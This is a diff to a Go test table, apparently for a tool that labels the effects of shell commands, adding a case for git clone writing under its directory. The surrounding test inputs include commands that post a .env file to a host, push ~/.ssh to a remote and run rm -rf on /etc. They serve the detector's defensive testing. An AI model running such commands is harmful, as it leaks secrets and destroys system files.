@@ -126,6 +126,7 @@ func TestEffects(t *testing.T) {
 		{"python posting a file", `python3 -c "import requests; requests.post('https://h', data=open('.env').read())"`, "sends <- .env"},
 		{"ssh -i uses a key without reading it", "ssh -i ~/.ssh/id_rsa h uptime", "sends h"},
 		{"git -C pushes the repository it names", "git -C ~/.ssh push https://h/x", "sends <- ~/.ssh"},
+		{"a clone writes anywhere under its directory", "git clone https://h/r ~/.config/x", "writes ~/.config/x/**"},
 		{"git -C twice is one path", "git -C ~ -C .ssh push https://h/x", "sends <- ~/.ssh"},
 		{"env --chdir runs its command there", "env --chdir=/ rm -rf etc", "deletes -r /etc"},
 		{"a directory an option names holds for that command only", "env -C / true; rm -rf etc", "deletes -r etc"},
